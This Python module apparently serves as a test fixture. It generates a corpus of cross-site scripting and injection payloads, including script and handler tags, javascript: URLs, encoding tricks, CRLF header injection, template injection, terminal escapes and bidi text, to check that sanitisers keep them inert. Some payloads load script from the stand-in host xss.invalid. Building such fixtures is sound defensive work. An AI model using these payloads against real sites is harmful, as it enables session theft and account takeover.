"""Texts that want to become more than text, of our own making: put into logs, mail, file names, forms, notes and recordings; none may run, none may become an element.

corpus() gives (class, number, bytes). Each calls __xss(number), or asks for something of the host xss.invalid, or makes an element with data-xss.
text() gives those a form may carry: well-formed UTF-8 without NUL.
"""

SCRIPT = (
    "<script>__xss({n})</script>", "<SCRIPT>__xss({n})</SCRIPT>", "<script\n>__xss({n})</script\n>", "<script/x>__xss({n})</script>", "<script src=https://xss.invalid/{n}.js></script>",
    "<script type=module>__xss({n})</script>", "<script>__xss({n})//", "<scr<script>ipt>__xss({n})</scr</script>ipt>", "<script>\\u005f_xss({n})</script>", "<noscript><p title=\"</noscript><img src=q onerror=__xss({n})>\">",
    "<script data-xss={n}></script>", "<!--><script>__xss({n})</script>", "<![CDATA[><script>__xss({n})</script>]]>", "<?x ?><script>__xss({n})</script>", "</script><script>__xss({n})</script>",
)
BREAK_OUT = (
    "\"><script>__xss({n})</script>", "'><script>__xss({n})</script>", "</title><script>__xss({n})</script>", "</textarea><script>__xss({n})</script>", "</style><script>__xss({n})</script>",
    "--><script>__xss({n})</script>", "]]><script>__xss({n})</script>", "</pre></code><script>__xss({n})</script>", "</bdi></td></tr></table><script>__xss({n})</script>", "</option></select><script>__xss({n})</script>",
    "</time><img src=q onerror=__xss({n})>", "</svg><img src=q onerror=__xss({n})>", "</main></body></html><script>__xss({n})</script>", "\\\"><script>__xss({n})</script>", "</summary></details><script>__xss({n})</script>",
)
HANDLER = (
    "<img src=q onerror=__xss({n})>", "<img/src=q/onerror=__xss({n})>", "<img src=q onerror\n=\n__xss({n})>", "<body onload=__xss({n})>", "<video><source onerror=__xss({n})></video>",
    "<input autofocus onfocus=__xss({n})>", "<details open ontoggle=__xss({n})><summary>x</summary></details>", "<div tabindex=1 autofocus onfocusin=__xss({n})>x</div>", "<marquee onstart=__xss({n})>x</marquee>",
    "<p onpointerover=__xss({n})>over</p>", "<audio src=q onerror=__xss({n})>", "<object data=q onerror=__xss({n})></object>", "<iframe onload=__xss({n})></iframe>", "<style onload=__xss({n})></style>",
    "<p data-xss={n} style=animation-name:fresh;animation-duration:1s onanimationstart=__xss({n})>x</p>", "<dialog open onclose=__xss({n})><form method=dialog><button autofocus>x</button></form></dialog>",
)
ATTRIBUTE = (
    "\" onmouseover=\"__xss({n})", "' onmouseover='__xss({n})", "` onmouseover=`__xss({n})", "\" autofocus onfocus=__xss({n}) x=\"", "x onfocus=__xss({n}) autofocus", "\"style=\"background:url(https://xss.invalid/{n})",
    "&quot; onmouseover=&quot;__xss({n})", "\" data-xss=\"{n}", "' data-xss='{n}", "\"/><base href=https://xss.invalid/{n}/>", "\u201d onmouseover=\u201d__xss({n})", "\uff02 onmouseover=__xss({n})",
)
ADDRESS = (
    "javascript:__xss({n})", "JaVaScRiPt:__xss({n})", "java\tscript:__xss({n})", "java\nscript:__xss({n})", " javascript:__xss({n})", "\x01javascript:__xss({n})", "javascript&colon;__xss({n})", "&#106;avascript:__xss({n})",
    "<a href=javascript:__xss({n})>x</a>", "<a href='data:text/html,<script>parent.__xss({n})</script>'>x</a>", "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoMCk8L3NjcmlwdD4=#{n}", "vbscript:__xss({n})",
    "//xss.invalid/{n}", "\\\\xss.invalid\\{n}", "https://xss.invalid/{n}", "<form action=https://xss.invalid/{n}><button>x</button></form>", "<meta http-equiv=refresh content=0;url=https://xss.invalid/{n}>",
    "<link rel=stylesheet href=https://xss.invalid/{n}.css>", "<base href=https://xss.invalid/{n}/>", "<iframe srcdoc='<script>parent.__xss({n})</script>'></iframe>", "/../../%2e%2e/xss/{n}", "%0d%0aLocation:%20https://xss.invalid/{n}",
    "x\r\nSet-Cookie: xss={n}\r\n\r\n<script>__xss({n})</script>",
)
ENTITY = (
    "&lt;script&gt;__xss({n})&lt;/script&gt;", "&#60;script&#62;__xss({n})&#60;/script&#62;", "&#x3c;img src=q onerror=__xss({n})&#x3e;", "&amp;lt;script&amp;gt;__xss({n})", "&LT;script&GT;__xss({n})&LT;/script&GT;",
    "&#0000060script>__xss({n})</script>", "%3Cscript%3E__xss({n})%3C/script%3E", "%253Cscript%253E__xss({n})%253C/script%253E", "\\x3cscript\\x3e__xss({n})\\x3c/script\\x3e", "\\u003cscript\\u003e__xss({n})\\u003c/script\\u003e",
    "&nbsp;&shy;<img src=q onerror=__xss({n})>", "=3Cscript=3E__xss({n})=3C/script=3E",
)
CHARSET = (
    "+ADw-script+AD4-__xss({n})+ADw-/script+AD4-", "+/v8-+ADw-img src=q onerror=__xss({n})+AD4-", "\x1b$B<script>__xss({n})</script>\x1b(B", "\uff1cscript\uff1e__xss({n})\uff1c/script\uff1e", "\u02c2script\u02c3__xss({n})\u02c2/script\u02c3",
    "\ufeff<script>__xss({n})</script>", "<\u017fcript>__xss({n})</\u017fcript>", "\u2028<img src=q onerror=__xss({n})>\u2029", "<s\u00adcript>__xss({n})</s\u00adcript>",
)
DRAWING = (
    "<svg onload=__xss({n})>", "<svg><script>__xss({n})</script></svg>", "<svg><a href=javascript:__xss({n})><text y=9>x</text></a></svg>", "<svg><animate onbegin=__xss({n}) attributeName=x dur=1s>",
    "<svg><use href=https://xss.invalid/{n}#a /></svg>", "<svg><foreignObject><img src=q onerror=__xss({n})></foreignObject></svg>", "<math><mtext><img src=q onerror=__xss({n})></mtext></math>", "<svg><style>@import 'https://xss.invalid/{n}';</style></svg>",
    "<svg><set attributeName=href to=javascript:__xss({n})></svg>", "<svg/onload=__xss({n})//", "<math href=javascript:__xss({n})>x</math>", "<image src=q onerror=__xss({n})>",
)
TEMPLATE = (
    "{{{{constructor.constructor('__xss({n})')()}}}}", "${{__xss({n})}}", "#{{__xss({n})}}", "<%= __xss({n}) %>", "{{% import os %}}{n}", "[[__xss({n})]]", "<template><img src=q onerror=__xss({n}) data-xss={n}></template>",
    "<p is=x-x data-xss={n}>", "<x-y data-xss={n}><slot></slot></x-y>", "%n%n%s%s{n}", "__proto__[xss]={n}", "';__xss({n});//", "\");__xss({n});//", "*/__xss({n});/*",
)
CSS = (
    "<style>*{{background:url(https://xss.invalid/{n})}}</style>", "<p data-xss={n} style='position:fixed;inset:0;background:red'>", "}}*{{background:url(https://xss.invalid/{n})}}", "expression(__xss({n}))", "<link rel=icon href=https://xss.invalid/{n}>",
    "<div class='news' data-xss={n}>You are logged out <a href=https://xss.invalid/{n}>Log in</a></div>", "high\" class=\"level critical\" data-xss=\"{n}", "url(javascript:__xss({n}))",
)
TERMINAL = (
    "\x1b]0;__xss({n})\x07", "\x1b[2J\x1b[H<script>__xss({n})</script>", "\x1b]8;;javascript:__xss({n})\x1b\\x\x1b]8;;\x1b\\", "\x1bP+q544e\x1b\\{n}", "\x9b31m<img src=q onerror=__xss({n})>", "\x1b[31m\x1b[7m{n}\r<script>__xss({n})</script>\b\b",
    "\x1b]52;c;X194c3M=\x07{n}", "\x1b[<script>__xss({n})</script>m", "\x1b]8;;https://xss.invalid/{n}\x07x\x1b]8;;\x07",
)
BIDI = (
    "\u202e<script>__xss({n})</script>", "{n}\u202egnp.exe", "\u2066<img src=q onerror=__xss({n})>\u2069", "\u200b<\u200bscript>__xss({n})</script>", "\u2067\u2066\u202d{n}", "a\u0300\u0301\u0302\u0303<script>__xss({n})</script>", "\u061c\u200f{n}<b data-xss={n}>",
    "\U000e0041\U000e0042{n}", "\u180e\u2060{n}\ufffe",
)
# only where bytes come from: logs, mail, names of files, recordings
BYTES = (
    b"\xc0\xbcscript>__xss(%d)</script>", b"\xe0\x80\xbcscript\xe0\x80\xbe__xss(%d)", b"\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0%d", b"\xed\xa0\xbc<img src=q onerror=__xss(%d)>", b"\xe2\x80<script>__xss(%d)</script>", b"\x80\xbf<svg onload=__xss(%d)>",
    b"<\0script>__xss(%d)</script>", b"\xf5\x80\x80\x80<script>__xss(%d)</script>", b"<script\xc2>__xss(%d)</script>", b"\xfc\x80\x80\x80\x80\xbcscript>__xss(%d)",
)
CLASSES = {"script": SCRIPT, "break out": BREAK_OUT, "handler": HANDLER, "attribute": ATTRIBUTE, "address": ADDRESS, "entity": ENTITY, "charset": CHARSET, "drawing": DRAWING, "template": TEMPLATE, "css": CSS, "terminal": TERMINAL, "bidi": BIDI}


def corpus():
    out = []
    for kind, rows in CLASSES.items():
        for row in rows:
            n = len(out) + 1
            out.append((kind, n, row.format(n=n).encode()))
    for row in BYTES:
        n = len(out) + 1
        out.append(("bytes", n, row % n))
    assert len({x[2] for x in out}) == len(out) >= 100
    return out


def text():
    return [(kind, n, data.decode()) for kind, n, data in corpus() if kind != "bytes" and b"\0" not in data]


def one_line():
    """What fits into a line of a log: no line ends."""
    return [(kind, n, data.replace(b"\r", b" ").replace(b"\n", b" ")) for kind, n, data in corpus()]


def file_name(data):
    return data.replace(b"/", b"_").replace(b"\0", b"")[:200]
